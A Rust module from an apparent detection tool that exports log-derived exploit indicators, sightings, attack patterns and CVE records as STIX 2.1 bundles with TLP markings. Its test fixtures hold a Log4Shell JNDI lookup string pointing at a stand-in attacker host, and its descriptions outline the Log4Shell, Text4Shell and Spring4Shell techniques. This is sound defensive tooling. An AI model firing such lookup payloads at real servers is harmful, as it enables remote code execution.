//! Indicators from log detection as a STIX 2.1 bundle, for sharing with
//! threat-intelligence platforms.
//!
//! [`write_bundle`] turns the [`Indicator`]s that `vigilo_core::indicator::aggregate`
//! folded out of detector hits into one `bundle`:
//!
//! - an `identity` for the sensor that saw them ([`SightingsInput::sensor`],
//!   class `system` or `organization`); it is the `created_by_ref` of every
//!   object, itself included (so the bundle also meets the STIX
//!   interoperability profile's rule that producers be named);
//! - per indicator, an `indicator` SDO with a STIX pattern
//!   (`[domain-name:value = '…']`, `[ipv4-addr:value = '…']`,
//!   `[ipv6-addr:value = '…']`, `[url:value = '…']`, quotes and
//!   backslashes escaped as the patterning grammar's string literals require),
//!   `indicator_types` `malicious-activity` (plus `anomalous-activity` for
//!   the addresses the attempts came from), `valid_from` the first time it was
//!   seen (the generation time when the logs had no times), a name and a
//!   description naming the role, the rules, the count and one decoded
//!   payload, `labels` the role (`exploit-callback`, `exploit-payload`,
//!   `scanning-source`) and the rule codes, a Lockheed Martin kill-chain
//!   phase (`exploitation` for callback hosts, `installation` for where a
//!   second stage is fetched from, `delivery` for the requesters), and the
//!   CVEs the rules detect as `external_references`;
//! - per indicator, a `sighting` of it by the sensor, with `count`,
//!   `first_seen` and `last_seen` (left out when the log lines carried no
//!   times), `where_sighted_refs` the sensor identity;
//! - per exploit family the rules name (Log4Shell: `log4shell-jndi`,
//!   `log4shell-jndi-exfil`, `log4shell-recon`; Text4Shell:
//!   `text4shell-lookup`; Spring4Shell: `spring4shell-classloader`), an
//!   `attack-pattern` (MITRE ATT&CK T1190, Exploit Public-Facing Application)
//!   that the indicators `indicates`, and which `targets` a `vulnerability`
//!   per CVE (CVE-2021-44228 and CVE-2021-45046; CVE-2022-42889;
//!   CVE-2022-22965). STIX 2.1 (§4.6) defines no `indicates` relationship
//!   from an indicator to a vulnerability, and stix2-validator's
//!   `relationship-types` check flags one, so the indicator reaches the
//!   vulnerability through the attack pattern, as the specification's
//!   relationship tables intend.
//!
//! Rule codes outside those families become labels and nothing else.
//!
//! **Reproducible output.** Identifiers are UUIDs of version 4 layout whose
//! 122 free bits are the first bits of the SHA-256 of a fixed namespace, the
//! object type and its natural key (the sensor, the role and the observable
//! for an indicator; the sensor, the indicator and
//! [`SightingsInput::generated`] for a sighting; the sensor and the CVE for a
//! vulnerability …). STIX 2.1 §2.9 asks for UUIDv4 for every object but cyber
//! observables (which take UUIDv5), and stix2-validator's `uuid-check` flags
//! any other version, so derived version-5 identifiers would be a
//! warning; a version-4 identifier built from a hash is indistinguishable
//! from a random one and stays the same for the same input. `created` and
//! `modified` are the generation time, so a later run of the same sensor over
//! the same observable gives a newer version of the same indicator. Times
//! are written `YYYY-MM-DDTHH:MM:SS.sssZ` (milliseconds, truncated); times
//! outside the years 0001–9999, which STIX cannot write, count as unknown.
//! Keys are sorted, as in the other writers of this crate.
//!
//! Advisories (OSV records) are written as `vulnerability` objects by
//! [`write_advisories_bundle`], and any bundle can carry a TLP 2.0 marking
//! ([`apply_marking`], [`write_bundle_marked`]); see the notes above
//! [`tlp_marking_definition`].

use std::collections::{BTreeMap, BTreeSet};
use std::io::{self, Write};

use jiff::Timestamp;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use vigilo_core::indicator::{Indicator, IndicatorRole, Observable, ObservableKind};
use vigilo_core::marking::{Marking, TLP_2_EXTENSION, Tlp};

use crate::osv::ParsedRecord;

/// What [`write_bundle`] needs: who saw the indicators, when the bundle was
/// made, and the indicators.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SightingsInput {
    /// The name of the sensor (a host, a service) or organisation that saw
    /// the indicators; the `name` of the bundle's `identity`.
    pub sensor: String,
    /// Whether [`SightingsInput::sensor`] names a system or an organisation.
    pub sensor_class: SensorClass,
    /// When the bundle is made: the `created`/`modified` time of every
    /// object, and the `valid_from` of indicators seen at unknown times.
    pub generated: Timestamp,
    /// The indicators, as `aggregate` orders them. Two with the same role
    /// and observable are merged.
    pub indicators: Vec<Indicator>,
}

/// The `identity_class` of the sensor identity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum SensorClass {
    /// A machine or service (`system`).
    #[default]
    System,
    /// An organisation (`organization`).
    Organization,
}

impl SensorClass {
    pub fn as_str(self) -> &'static str {
        match self {
            SensorClass::System => "system",
            SensorClass::Organization => "organization",
        }
    }
}

/// Writes `input` as a STIX 2.1 bundle (see the module docs): pretty-printed
/// JSON, keys sorted, ending with a newline. The same input always gives the
/// same bytes.
pub fn write_bundle(input: &SightingsInput, out: &mut dyn Write) -> io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, &sorted(bundle(input)))?;
    out.write_all(b"\n")?;
    out.flush()
}

/// The CVEs a detector rule's hits are exploitation attempts of
/// (`log4shell-jndi`: CVE-2021-44228 and CVE-2021-45046); none for a rule
/// of no family.
pub fn rule_cves(rule: &str) -> &'static [&'static str] {
    FAMILIES
        .iter()
        .find(|f| f.rules.contains(&rule))
        .map_or(&[], |f| f.cves)
}

/// An exploit family: the rules that detect it and the CVEs it exploits.
struct Family {
    key: &'static str,
    name: &'static str,
    rules: &'static [&'static str],
    cves: &'static [&'static str],
    description: &'static str,
}

const FAMILIES: [Family; 3] = [
    Family {
        key: "log4shell",
        name: "Log4Shell",
        rules: &["log4shell-jndi", "log4shell-jndi-exfil", "log4shell-recon"],
        cves: &["CVE-2021-44228", "CVE-2021-45046"],
        description: "Log4j lookup injection (Log4Shell): text that an application logs with \
                      Apache Log4j 2 carries `${jndi:ldap://…}` and other lookups, often \
                      obfuscated with nested lookups, which Log4j evaluates, making the server \
                      fetch and run code from the attacker's host or leak data in the host name.",
    },
    Family {
        key: "text4shell",
        name: "Text4Shell",
        rules: &["text4shell-lookup"],
        cves: &["CVE-2022-42889"],
        description: "Apache Commons Text interpolation injection (Text4Shell): input passed to \
                      StringSubstitutor carries `${script:…}`, `${url:…}` or `${dns:…}` \
                      lookups, which run script code or contact the attacker's host.",
    },
    Family {
        key: "spring4shell",
        name: "Spring4Shell",
        rules: &["spring4shell-classloader"],
        cves: &["CVE-2022-22965"],
        description: "Spring Framework class loader manipulation (Spring4Shell): request \
                      parameters named `class.module.classLoader.…` reach the class loader \
                      through data binding and rewrite, for example, Tomcat's access log valve \
                      into a web shell.",
    },
];

/// The CVE descriptions written in `vulnerability` objects.
fn cve_description(cve: &str) -> &'static str {
    match cve {
        "CVE-2021-44228" => {
            "Apache Log4j 2.0-beta9 through 2.15.0 (excluding the security releases 2.12.2, \
             2.12.3 and 2.3.1): JNDI features used in configuration, log messages and parameters \
             do not protect against attacker-controlled LDAP and other JNDI endpoints, so an \
             attacker who controls logged text can make the server load and run code from a \
             remote host (Log4Shell)."
        }
        "CVE-2021-45046" => {
            "Apache Log4j 2.15.0's fix for CVE-2021-44228 was incomplete in certain non-default \
             configurations: attacker-controlled Thread Context Map data reaching a lookup in a \
             pattern layout still leads to JNDI lookups, information leaks and remote code \
             execution."
        }
        "CVE-2022-42889" => {
            "Apache Commons Text 1.5 to 1.9: the default interpolators of StringSubstitutor \
             include the script, dns and url lookups, so interpolating untrusted input can run \
             code or contact remote servers (Text4Shell)."
        }
        "CVE-2022-22965" => {
            "Spring Framework 5.3.0 to 5.3.17, 5.2.0 to 5.2.19 and older versions, on JDK 9 or \
             later: data binding gives access to class.module.classLoader, which allows remote \
             code execution, for example on Tomcat by rewriting the access log valve \
             (Spring4Shell)."
        }
        _ => "",
    }
}

/// Prefix of every hashed natural key: changing it changes every id.
const ID_NAMESPACE: &str = "vigilo/stix-2.1/v1";

/// `TYPE--UUID` with a version-4-shaped UUID from the SHA-256 of the
/// namespace, the type and the key parts (each followed by a NUL, so that
/// parts cannot run into each other).
fn stix_id(kind: &str, parts: &[&str]) -> String {
    let mut h = Sha256::new();
    h.update(ID_NAMESPACE.as_bytes());
    h.update([0]);
    h.update(kind.as_bytes());
    h.update([0]);
    for p in parts {
        h.update(p.as_bytes());
        h.update([0]);
    }
    let digest = h.finalize();
    let mut b = [0u8; 16];
    b.copy_from_slice(&digest[..16]);
    b[6] = (b[6] & 0x0f) | 0x40;
    b[8] = (b[8] & 0x3f) | 0x80;
    let hex: String = b.iter().map(|x| format!("{x:02x}")).collect();
    format!(
        "{kind}--{}-{}-{}-{}-{}",
        &hex[..8],
        &hex[8..12],
        &hex[12..16],
        &hex[16..20],
        &hex[20..]
    )
}

/// A STIX timestamp, `YYYY-MM-DDTHH:MM:SS.sssZ`, or `None` for years STIX
/// cannot write.
fn stix_time(t: Timestamp) -> Option<String> {
    let year = t.to_zoned(jiff::tz::TimeZone::UTC).year();
    if !(1..=9999).contains(&year) {
        return None;
    }
    Some(t.strftime("%Y-%m-%dT%H:%M:%S%.3fZ").to_string())
}

/// A string literal of the STIX patterning grammar: single quotes, with
/// `\` and `'` escaped by a backslash.
fn pattern_literal(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\\' || c == '\'' {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// `[TYPE:value = '…']` for an observable.
fn pattern(o: &Observable) -> String {
    format!(
        "[{}:value = {}]",
        o.kind.as_str(),
        pattern_literal(&o.value)
    )
}

/// At most `max` characters of `s`, with `…` when cut.
fn clip(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_owned(),
    }
}

/// The longest example payload written into a description, in characters.
const EXAMPLE_MAX: usize = 1000;

/// STIX's largest sighting `count`.
const COUNT_MAX: u64 = 999_999_999;

fn families_of(rules: &[String]) -> Vec<&'static Family> {
    FAMILIES
        .iter()
        .filter(|f| rules.iter().any(|r| f.rules.contains(&r.as_str())))
        .collect()
}

fn role_label(role: IndicatorRole) -> &'static str {
    match role {
        IndicatorRole::Callback => "exploit-callback",
        IndicatorRole::Payload => "exploit-payload",
        IndicatorRole::Source => "scanning-source",
    }
}

fn kill_chain_phase(role: IndicatorRole) -> &'static str {
    match role {
        IndicatorRole::Callback => "exploitation",
        IndicatorRole::Payload => "installation",
        IndicatorRole::Source => "delivery",
    }
}

fn what(role: IndicatorRole, kind: ObservableKind) -> &'static str {
    match (role, kind) {
        (IndicatorRole::Source, _) => "scanning source",
        (IndicatorRole::Callback, ObservableKind::DomainName) => "callback host",
        (IndicatorRole::Callback, ObservableKind::Url) => "callback URL",
        (IndicatorRole::Callback, _) => "callback address",
        (IndicatorRole::Payload, ObservableKind::DomainName) => "payload host",
        (IndicatorRole::Payload, ObservableKind::Url) => "payload URL",
        (IndicatorRole::Payload, _) => "payload address",
    }
}

fn role_sentence(role: IndicatorRole) -> &'static str {
    match role {
        IndicatorRole::Callback => {
            "The host that exploitation attempts tell the server to call back to \
             (the attacker's lookup server)."
        }
        IndicatorRole::Payload => {
            "Found in a command decoded from an exploitation attempt: where the second stage \
             is fetched from."
        }
        IndicatorRole::Source => "The address that sent exploitation attempts.",
    }
}

fn name(ind: &Indicator, families: &[&Family]) -> String {
    let family = match families {
        [one] => one.name,
        _ => "Exploit",
    };
    format!(
        "{family} {} {}",
        what(ind.role, ind.observable.kind),
        ind.observable.value
    )
}

fn description(ind: &Indicator, families: &[&Family], sensor: &str) -> String {
    let mut d = String::from(role_sentence(ind.role));
    let times = if ind.count == 1 { "once" } else { "times" };
    let seen = if ind.count == 1 {
        format!(" Seen {times} by {sensor}")
    } else {
        format!(" Seen {} {times} by {sensor}", ind.count)
    };
    d.push_str(&seen);
    d.push_str(&format!(" in hits of {}.", ind.rules.join(", ")));
    if !families.is_empty() {
        let exploits: Vec<String> = families
            .iter()
            .map(|f| format!("{} ({})", f.name, f.cves.join(", ")))
            .collect();
        d.push_str(&format!(" Exploits: {}.", exploits.join("; ")));
    }
    if !ind.example.is_empty() {
        d.push_str(" Example decoded payload: ");
        d.push_str(&clip(&ind.example, EXAMPLE_MAX));
    }
    d
}

/// The input's indicators, one per (role, observable), in input order.
fn unique(indicators: &[Indicator]) -> Vec<Indicator> {
    let mut out: Vec<Indicator> = Vec::with_capacity(indicators.len());
    let mut at: BTreeMap<(IndicatorRole, &Observable), usize> = BTreeMap::new();
    for ind in indicators {
        match at.get(&(ind.role, &ind.observable)) {
            Some(&i) => out[i].merge(ind),
            None => {
                at.insert((ind.role, &ind.observable), out.len());
                out.push(ind.clone());
            }
        }
    }
    out
}

fn bundle(input: &SightingsInput) -> Value {
    let sensor = input.sensor.as_str();
    // The generation time is a timestamp jiff produced; an out-of-range year
    // still yields a string so that the output stays well-formed JSON (the
    // validator then names the problem).
    let now = stix_time(input.generated).unwrap_or_else(|| input.generated.to_string());
    let identity_id = stix_id("identity", &[sensor]);
    let common = |kind: &str, id: &str| {
        json!({
            "type": kind,
            "spec_version": "2.1",
            "id": id,
            "created": now,
            "modified": now,
            "created_by_ref": identity_id,
        })
    };
    let with = |mut base: Value, extra: Value| {
        if let (Value::Object(b), Value::Object(e)) = (&mut base, extra) {
            b.extend(e);
        }
        base
    };

    let indicators = unique(&input.indicators);
    let mut used: BTreeSet<&'static str> = BTreeSet::new();
    let mut per_indicator: Vec<Value> = Vec::new();
    for ind in &indicators {
        let families = families_of(&ind.rules);
        used.extend(families.iter().map(|f| f.key));
        let key = [
            sensor,
            ind.role.as_str(),
            ind.observable.kind.as_str(),
            &ind.observable.value,
        ];
        let indicator_id = stix_id("indicator", &key);
        let first = ind.first_seen.and_then(stix_time);
        let last = ind.last_seen.and_then(stix_time);
        let mut indicator_types = vec!["malicious-activity"];
        if ind.role == IndicatorRole::Source {
            indicator_types.push("anomalous-activity");
        }
        let mut labels: Vec<&str> = vec![role_label(ind.role)];
        labels.extend(ind.rules.iter().map(String::as_str));
        let cves: Vec<Value> = families
            .iter()
            .flat_map(|f| f.cves)
            .map(|c| json!({ "source_name": "cve", "external_id": c }))
            .collect();
        let mut extra = json!({
            "name": name(ind, &families),
            "description": description(ind, &families, sensor),
            "indicator_types": indicator_types,
            "pattern": pattern(&ind.observable),
            "pattern_type": "stix",
            "pattern_version": "2.1",
            "valid_from": first.clone().unwrap_or_else(|| now.clone()),
            "labels": labels,
            "kill_chain_phases": [{
                "kill_chain_name": "lockheed-martin-cyber-kill-chain",
                "phase_name": kill_chain_phase(ind.role),
            }],
        });
        if !cves.is_empty() {
            extra["external_references"] = Value::Array(cves);
        }
        per_indicator.push(with(common("indicator", &indicator_id), extra));

        let sighting_id = stix_id("sighting", &[&indicator_id, &now]);
        let mut extra = json!({
            "sighting_of_ref": indicator_id,
            "where_sighted_refs": [identity_id],
            "count": ind.count.min(COUNT_MAX),
        });
        if let Some(f) = first {
            extra["first_seen"] = Value::String(f);
        }
        if let Some(l) = last {
            extra["last_seen"] = Value::String(l);
        }
        per_indicator.push(with(common("sighting", &sighting_id), extra));

        for f in &families {
            let target = stix_id("attack-pattern", &[sensor, f.key]);
            per_indicator.push(relationship(&common, &indicator_id, "indicates", &target));
        }
    }

    let mut objects: Vec<Value> = Vec::new();
    objects.push(with(
        common("identity", &identity_id),
        json!({
            "name": sensor,
            "identity_class": input.sensor_class.as_str(),
            "description": "The sensor that reported these sightings (vigilo logs).",
        }),
    ));
    let families: Vec<&Family> = FAMILIES.iter().filter(|f| used.contains(f.key)).collect();
    let cves: BTreeSet<&str> = families
        .iter()
        .flat_map(|f| f.cves.iter().copied())
        .collect();
    for f in &families {
        objects.push(with(
            common(
                "attack-pattern",
                &stix_id("attack-pattern", &[sensor, f.key]),
            ),
            json!({
                "name": format!("{} exploitation", f.name),
                "description": f.description,
                "external_references": [{
                    "source_name": "mitre-attack",
                    "external_id": "T1190",
                    "description": "Exploit Public-Facing Application",
                }],
                "kill_chain_phases": [{
                    "kill_chain_name": "mitre-attack",
                    "phase_name": "initial-access",
                }],
            }),
        ));
    }
    for cve in &cves {
        objects.push(with(
            common("vulnerability", &stix_id("vulnerability", &[sensor, cve])),
            json!({
                "name": cve,
                "description": cve_description(cve),
                "external_references": [{ "source_name": "cve", "external_id": cve }],
            }),
        ));
    }
    for f in &families {
        let source = stix_id("attack-pattern", &[sensor, f.key]);
        for cve in f.cves {
            let target = stix_id("vulnerability", &[sensor, cve]);
            objects.push(relationship(&common, &source, "targets", &target));
        }
    }
    objects.extend(per_indicator);

    let mut key: Vec<&str> = vec![sensor, &now];
    let ids: Vec<&str> = objects.iter().filter_map(|o| o["id"].as_str()).collect();
    key.extend(ids);
    json!({
        "type": "bundle",
        "id": stix_id("bundle", &key),
        "objects": objects,
    })
}

fn relationship(
    common: &impl Fn(&str, &str) -> Value,
    source: &str,
    kind: &str,
    target: &str,
) -> Value {
    let mut r = common(
        "relationship",
        &stix_id("relationship", &[source, kind, target]),
    );
    r["relationship_type"] = Value::from(kind);
    r["source_ref"] = Value::from(source);
    r["target_ref"] = Value::from(target);
    r
}

// Markings and advisories.
//
// [`tlp_marking_definition`] is the TLP 2.0 `marking-definition` exactly as
// OASIS publishes it (cti-stix-common-objects, extension-definition-
// specifications/tlp-2.0): its fixed id, `created` 2022-10-01, the name and
// the property extension `extension-definition--60a3c5c5-…` with
// `tlp_2_0`. STIX 2.1 predefines TLP 1.0 markings only, so a bundle that
// references a TLP 2.0 marking carries its definition. [`apply_marking`]
// puts a [`Marking`]'s level on every object of a bundle
// (`object_marking_refs`) and adds the definition; [`write_bundle_marked`]
// is [`write_bundle`] with it (without a marking the bytes are those of
// [`write_bundle`]). A marking's sharing groups and named organisations have
// no standard STIX form: they are enforced by the hub that shares the
// bundle, not written into it.
//
// [`write_advisories_bundle`] writes advisories (OSV records) as STIX 2.1:
// an `identity` for the publishing organisation, the `created_by_ref` of
// every object; per advisory a `vulnerability` ([`advisory_vulnerability`]:
// `name` the CVE id when the record has one, else its id;
// `external_references` each CVE alias (`cve`), the record's id and its
// other aliases (source named after the database: `ghsa`, `pysec`,
// `rustsec`, `go`, …) and the record's `ADVISORY` URLs (`advisory`, the
// URL as the `description`: STIX 2.1 §2.5 asks for `hashes` of the
// content beside a `url`, which stix2-validator's strict `extref-hashes`
// check enforces and which vigilo cannot give without fetching the page);
// `description` the summary and the details; `created` the record's
// `published` (its `modified` when absent or later) and `modified` its
// `modified`); and the marking, when there is one. Ids are derived as
// above, from the publisher and the advisory id, so a newer version of an
// advisory is a newer version of the same STIX object.

/// The `created` of OASIS's TLP 2.0 marking definitions.
const TLP_2_CREATED: &str = "2022-10-01T00:00:00.000Z";

/// The TLP 2.0 `marking-definition` of a level, as OASIS publishes it.
pub fn tlp_marking_definition(tlp: Tlp) -> Value {
    let mut extensions = serde_json::Map::new();
    extensions.insert(
        TLP_2_EXTENSION.to_owned(),
        json!({ "extension_type": "property-extension", "tlp_2_0": tlp.stix_value() }),
    );
    json!({
        "type": "marking-definition",
        "spec_version": "2.1",
        "id": tlp.stix_marking_id(),
        "created": TLP_2_CREATED,
        "name": tlp.as_str(),
        "extensions": extensions,
    })
}

/// Marks every object of `bundle` (a STIX bundle as JSON) with `marking`'s
/// TLP level (added to `object_marking_refs`, marking definitions left
/// alone) and adds the level's marking definition to the bundle when it is
/// not there yet.
pub fn apply_marking(bundle: &mut Value, marking: &Marking) {
    let id = marking.tlp.stix_marking_id();
    let Some(objects) = bundle.get_mut("objects").and_then(Value::as_array_mut) else {
        return;
    };
    let mut present = false;
    for o in objects.iter_mut() {
        if o["type"] == "marking-definition" {
            present |= o["id"] == id;
            continue;
        }
        let Some(obj) = o.as_object_mut() else {
            continue;
        };
        let refs = obj
            .entry("object_marking_refs")
            .or_insert_with(|| Value::Array(Vec::new()));
        if let Some(list) = refs.as_array_mut() {
            if !list.iter().any(|r| r == id) {
                list.push(Value::from(id));
            }
        }
    }
    if !present {
        objects.insert(0, tlp_marking_definition(marking.tlp));
    }
}

/// [`write_bundle`] with every object marked with `marking` (see
/// [`apply_marking`]); the same bytes as [`write_bundle`] when `marking` is
/// `None`.
pub fn write_bundle_marked(
    input: &SightingsInput,
    marking: Option<&Marking>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut b = bundle(input);
    if let Some(m) = marking {
        apply_marking(&mut b, m);
    }
    serde_json::to_writer_pretty(&mut *out, &sorted(b))?;
    out.write_all(b"\n")?;
    out.flush()
}

/// What [`write_advisories_bundle`] needs.
#[derive(Debug, Clone)]
pub struct AdvisoriesInput<'a> {
    /// The publishing organisation: the `name` of the bundle's `identity`.
    pub publisher: String,
    /// When the bundle is made: the identity's `created`/`modified`.
    pub generated: Timestamp,
    /// The marking of every object; `None`: unmarked.
    pub marking: Option<Marking>,
    /// The advisories. Two with the same id: the later `modified` is kept.
    pub records: &'a [ParsedRecord],
}

/// The `identity` id of an organisation publishing advisories.
pub fn publisher_identity_id(publisher: &str) -> String {
    stix_id("identity", &[publisher])
}

/// A STIX time for an OSV time, `None` when it does not parse.
fn osv_time(s: &str) -> Option<String> {
    s.trim().parse::<Timestamp>().ok().and_then(stix_time)
}

fn is_cve_id(s: &str) -> bool {
    let Some((year, num)) = s.strip_prefix("CVE-").and_then(|r| r.split_once('-')) else {
        return false;
    };
    year.len() == 4
        && year.bytes().all(|b| b.is_ascii_digit())
        && num.len() >= 4
        && num.bytes().all(|b| b.is_ascii_digit())
        && (num.len() == 4 || !num.starts_with('0'))
}

/// The `source_name` of an advisory id: its prefix, lower-cased (`ghsa`,
/// `pysec`, `rustsec`, `go` …), `cve` for a CVE id.
fn source_name(id: &str) -> String {
    let prefix: String = id
        .split('-')
        .next()
        .unwrap_or_default()
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .collect::<String>()
        .to_ascii_lowercase();
    if prefix.is_empty() || prefix == id.to_ascii_lowercase() {
        "advisory-id".into()
    } else {
        prefix
    }
}

/// The `vulnerability` SDO of an advisory, created by `publisher`'s
/// identity and marked with `marking` (see the notes above
/// [`tlp_marking_definition`]).
pub fn advisory_vulnerability(
    record: &ParsedRecord,
    publisher: &str,
    marking: Option<&Marking>,
) -> Value {
    let adv = &record.advisory;
    let id = adv.id.trim();
    let modified = osv_time(&adv.modified).unwrap_or_else(|| adv.modified.trim().to_owned());
    let created = adv
        .published
        .as_deref()
        .and_then(osv_time)
        .filter(|p| *p <= modified)
        .unwrap_or_else(|| modified.clone());
    let aliases: Vec<&str> = adv
        .aliases
        .iter()
        .map(|a| a.trim())
        .filter(|a| !a.is_empty())
        .collect();
    let cves: Vec<&str> = std::iter::once(id)
        .chain(aliases.iter().copied())
        .filter(|a| is_cve_id(a))
        .fold(Vec::new(), |mut v, a| {
            if !v.contains(&a) {
                v.push(a);
            }
            v
        });
    let mut refs: Vec<Value> = Vec::new();
    let mut push = |r: Value| {
        if !refs.contains(&r) {
            refs.push(r);
        }
    };
    for c in &cves {
        push(json!({ "source_name": "cve", "external_id": c }));
    }
    for a in std::iter::once(id).chain(aliases.iter().copied()) {
        if !is_cve_id(a) {
            push(json!({ "source_name": source_name(a), "external_id": a }));
        }
    }
    for r in record
        .json
        .get("references")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
    {
        let advisory = r.get("type").and_then(Value::as_str) == Some("ADVISORY");
        let url = r.get("url").and_then(Value::as_str).map(str::trim);
        if let (true, Some(url)) = (advisory, url) {
            let ok = (url.starts_with("https://") || url.starts_with("http://"))
                && !url.chars().any(|c| c.is_whitespace() || c.is_control());
            if ok {
                push(json!({ "source_name": "advisory", "description": url }));
            }
        }
    }
    let summary = adv
        .summary
        .as_deref()
        .map(str::trim)
        .filter(|s| !s.is_empty());
    let details = record
        .json
        .get("details")
        .and_then(Value::as_str)
        .map(str::trim)
        .filter(|s| !s.is_empty());
    let description = match (summary, details) {
        (Some(s), Some(d)) => Some(format!("{s}\n\n{d}")),
        (Some(s), None) => Some(s.to_owned()),
        (None, Some(d)) => Some(d.to_owned()),
        (None, None) => None,
    };
    let mut v = json!({
        "type": "vulnerability",
        "spec_version": "2.1",
        "id": stix_id("vulnerability", &[publisher, id]),
        "created": created,
        "modified": modified,
        "created_by_ref": publisher_identity_id(publisher),
        "name": cves.first().copied().unwrap_or(id),
        "external_references": refs,
    });
    if let Some(d) = description {
        v["description"] = Value::String(d);
    }
    if let Some(m) = marking {
        v["object_marking_refs"] = json!([m.tlp.stix_marking_id()]);
    }
    v
}

/// The advisories of `input` as a STIX 2.1 bundle (see the notes above
/// [`tlp_marking_definition`]).
pub fn advisories_bundle(input: &AdvisoriesInput<'_>) -> Value {
    let publisher = input.publisher.as_str();
    let now = stix_time(input.generated).unwrap_or_else(|| input.generated.to_string());
    let identity_id = publisher_identity_id(publisher);
    let mut identity = json!({
        "type": "identity",
        "spec_version": "2.1",
        "id": identity_id,
        "created": now,
        "modified": now,
        "created_by_ref": identity_id,
        "name": publisher,
        "identity_class": "organization",
        "description": "The organisation that publishes these advisories.",
    });
    let marking = input.marking.as_ref();
    if let Some(m) = marking {
        identity["object_marking_refs"] = json!([m.tlp.stix_marking_id()]);
    }
    // One vulnerability per advisory id, the latest `modified` winning.
    let mut chosen: Vec<&ParsedRecord> = Vec::new();
    for r in input.records {
        match chosen
            .iter_mut()
            .find(|c| c.advisory.id.trim() == r.advisory.id.trim())
        {
            Some(c) => {
                if crate::osv::modified_cmp(&r.advisory.modified, &c.advisory.modified)
                    == std::cmp::Ordering::Greater
                {
                    *c = r;
                }
            }
            None => chosen.push(r),
        }
    }
    let mut objects = Vec::new();
    if let Some(m) = marking {
        objects.push(tlp_marking_definition(m.tlp));
    }
    objects.push(identity);
    objects.extend(
        chosen
            .iter()
            .map(|r| advisory_vulnerability(r, publisher, marking)),
    );
    let mut key: Vec<&str> = vec![publisher, &now];
    key.extend(objects.iter().filter_map(|o| o["id"].as_str()));
    let mut modified: Vec<String> = objects
        .iter()
        .filter_map(|o| o["modified"].as_str().map(str::to_owned))
        .collect();
    modified.sort();
    let last = modified.last().cloned().unwrap_or_default();
    key.push(&last);
    json!({
        "type": "bundle",
        "id": stix_id("bundle", &key),
        "objects": objects,
    })
}

/// Writes [`advisories_bundle`]: pretty-printed JSON, keys sorted, ending
/// with a newline. The same input always gives the same bytes.
pub fn write_advisories_bundle(input: &AdvisoriesInput<'_>, out: &mut dyn Write) -> io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, &sorted(advisories_bundle(input)))?;
    out.write_all(b"\n")?;
    out.flush()
}

/// Rebuilds every object with its keys inserted in sorted order, so that the
/// output is the same whether or not serde_json's `preserve_order` feature is
/// switched on somewhere in the build.
fn sorted(value: Value) -> Value {
    match value {
        Value::Object(m) => {
            let mut entries: Vec<(String, Value)> = m.into_iter().collect();
            entries.sort_by(|a, b| a.0.cmp(&b.0));
            Value::Object(entries.into_iter().map(|(k, v)| (k, sorted(v))).collect())
        }
        Value::Array(a) => Value::Array(a.into_iter().map(sorted).collect()),
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ts(s: &str) -> Timestamp {
        s.parse().unwrap_or(Timestamp::UNIX_EPOCH)
    }

    fn ind(role: IndicatorRole, o: Observable, rules: &[&str], count: u64) -> Indicator {
        Indicator {
            observable: o,
            role,
            rules: rules.iter().map(|r| (*r).to_owned()).collect(),
            count,
            first_seen: Some(ts("2021-12-10T10:00:00.123456Z")),
            last_seen: Some(ts("2021-12-11T10:00:00Z")),
            example: "${jndi:ldap://evil.example/a}".into(),
        }
    }

    fn input(indicators: Vec<Indicator>) -> SightingsInput {
        SightingsInput {
            sensor: "web-01".into(),
            sensor_class: SensorClass::System,
            generated: ts("2021-12-12T00:00:00Z"),
            indicators,
        }
    }

    fn objects<'a>(b: &'a Value, kind: &str) -> Vec<&'a Value> {
        b["objects"]
            .as_array()
            .map(|a| a.iter().filter(|o| o["type"] == kind).collect())
            .unwrap_or_default()
    }

    #[test]
    fn pattern_literals_escape_quotes_and_backslashes() {
        assert_eq!(pattern_literal("a'b\\c"), r"'a\'b\\c'");
        assert_eq!(pattern_literal("évil.example"), "'évil.example'");
        let o = Observable::url("http://x.example/it's");
        assert_eq!(pattern(&o), r"[url:value = 'http://x.example/it\'s']");
        let v6 = Observable::host("[2001:db8::1]").map(|o| pattern(&o));
        assert_eq!(v6.as_deref(), Some("[ipv6-addr:value = '2001:db8::1']"));
    }

    #[test]
    fn ids_are_version_4_shaped_and_stable() {
        let a = stix_id("indicator", &["s", "callback", "domain-name", "x"]);
        assert_eq!(
            a,
            stix_id("indicator", &["s", "callback", "domain-name", "x"])
        );
        assert_ne!(
            a,
            stix_id("indicator", &["s", "callback", "domain-namex", ""])
        );
        let uuid = a.strip_prefix("indicator--").unwrap_or_default();
        let groups: Vec<usize> = uuid.split('-').map(str::len).collect();
        assert_eq!(groups, [8, 4, 4, 4, 12]);
        assert_eq!(&uuid[14..15], "4");
        assert!(matches!(&uuid[19..20], "8" | "9" | "a" | "b"), "{uuid}");
    }

    #[test]
    fn times_have_milliseconds_and_stay_in_range() {
        assert_eq!(
            stix_time(ts("2021-12-10T10:00:00.123956Z")).as_deref(),
            Some("2021-12-10T10:00:00.123Z")
        );
        assert_eq!(
            stix_time(ts("2021-12-10T10:00:00Z")).as_deref(),
            Some("2021-12-10T10:00:00.000Z")
        );
        assert_eq!(stix_time(Timestamp::MIN), None);
    }

    #[test]
    fn duplicates_are_merged_and_counts_clamped() {
        let dom = || Observable::host("evil.example").unwrap_or_else(|| Observable::url(""));
        let b = bundle(&input(vec![
            ind(IndicatorRole::Callback, dom(), &["log4shell-jndi"], 2),
            ind(
                IndicatorRole::Callback,
                dom(),
                &["log4shell-jndi-exfil"],
                COUNT_MAX,
            ),
        ]));
        assert_eq!(objects(&b, "indicator").len(), 1);
        let s = objects(&b, "sighting");
        assert_eq!(s[0]["count"], COUNT_MAX);
        assert_eq!(
            objects(&b, "indicator")[0]["labels"],
            json!(["exploit-callback", "log4shell-jndi", "log4shell-jndi-exfil"])
        );
    }

    #[test]
